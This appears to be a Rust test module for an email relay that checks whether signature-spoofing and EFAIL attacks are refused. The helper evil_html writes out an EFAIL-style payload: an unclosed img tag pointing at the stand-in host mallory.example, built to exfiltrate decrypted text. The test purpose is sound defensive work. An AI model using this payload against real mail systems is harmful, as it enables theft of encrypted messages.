//! The attack classes of "Johnny, you are fired!" (Müller and others, USENIX Security 2019) and of EFAIL (Poddebniak and
//! others, 2018), with our own keys. A provider or a stranger has text that the person signed, and builds mail around it.
//!
//! Each variant is refused, or what leaves is exactly the signed text: no word of the attacker's, in no part and no field.
//!
//! | class | here |
//! | --- | --- |
//! | CMS: several signers, no signers, another eContent, another eContentType | [`cms`] |
//! | PGP: signatures of something else, text around what is signed | [`openpgp`] |
//! | MIME: signed parts beside, below, before and behind others | [`wrapped`] |
//! | ID: other names and addresses in the fields of the sender | [`fields`] |
//! | UI: what looks like a signature in a mail client | nothing is shown here; HTML beside signed text is in [`wrapped`] |
//! | EFAIL: ciphertext between HTML parts, blocks moved within CBC | [`efail`] |

mod cms;
mod efail;
mod fields;
mod openpgp;
mod wrapped;

use std::collections::HashSet;

use mail_parser::MessageParser;

use crate::{
    reply::{talk::Talk, wire},
    support::home::Home,
};

/// What the attacker adds; nothing of it may leave.
const EVIL: &str = "Pay Mallory at once";

/// An attacker's entity.
fn evil() -> String {
    wire::note(EVIL)
}

/// The same in HTML, with something to load.
fn evil_html() -> String {
    format!("Content-Type: text/html; charset=utf-8\r\n\r\n<p>{EVIL}</p><img src=\"http://mallory.example/?\r\n")
}

/// Several parts as one entity.
fn multipart(subtype: &str, parts: &[&str]) -> String {
    let parts: String = parts.iter().map(|part| format!("--around\r\n{part}\r\n")).collect();
    format!("Content-Type: multipart/{subtype}; boundary=around\r\n\r\n{parts}--around--\r\n")
}

/// The number of variants of each ending, so that a table of only refusals does not go unseen.
#[derive(Debug, Default)]
struct Endings {
    refused: usize,
    signed_text_left: usize,
}

impl Endings {
    /// Sends a variant to the contact's relay address and looks at what leaves. `signed` is the text that the person signed.
    async fn judge(&mut self, home: &Home, name: &str, (to, message): (&str, &str), signed: &str) {
        // Each is a first try: the limit of failures has its own test.
        home.sql("DELETE FROM attempts").await;
        let before: HashSet<_> = home.outbox().await.into_iter().collect();
        let said = home.send("ann@example.org", to, message).await;
        let after = home.outbox().await;
        let left: Vec<_> = after.iter().filter(|mail| !before.contains(*mail)).collect();
        if said.starts_with('5') {
            assert!(left.is_empty(), "{name}: refused, and left");
            self.refused += 1;
            return;
        }
        assert!(said.starts_with("250 "), "{name}: {said}");
        let [mail] = left[..] else {
            panic!("{name}: {} messages left", left.len());
        };
        let read = MessageParser::default().parse(mail).unwrap();
        let texts: Vec<_> = (0..read.text_body_count())
            .filter_map(|at| read.body_text(at))
            .collect();
        assert_eq!(texts.len(), 1, "{name}: {texts:?}");
        assert_eq!(texts[0].trim().replace("\r\n", "\n"), signed, "{name}");
        assert_eq!(read.attachment_count(), 0, "{name}");
        let raw = String::from_utf8_lossy(mail);
        for word in ["Mallory", "mallory"] {
            assert!(!raw.contains(word), "{name}: {raw}");
        }
        self.signed_text_left += 1;
    }

    /// The same with the S/MIME profile's person and contact.
    async fn judge_entity(&mut self, talk: &Talk, name: &str, entity: &str, signed: &str) {
        let to = talk.letter.relay_address.as_str();
        self.judge(&talk.home, name, (to, &talk.to_bob(name, entity)), signed)
            .await;
    }
}

/// The genuine article of each test, so that a refusal does not come from the tool.
async fn genuine(talk: &Talk) {
    let text = "genuine, signed and sealed";
    let sealed = talk.sealed("", "-aes-256-cbc", &wire::note(text));
    let mut endings = Endings::default();
    endings.judge_entity(talk, "genuine", &sealed, text).await;
    assert_eq!(endings.signed_text_left, 1, "a genuine answer leaves");
}
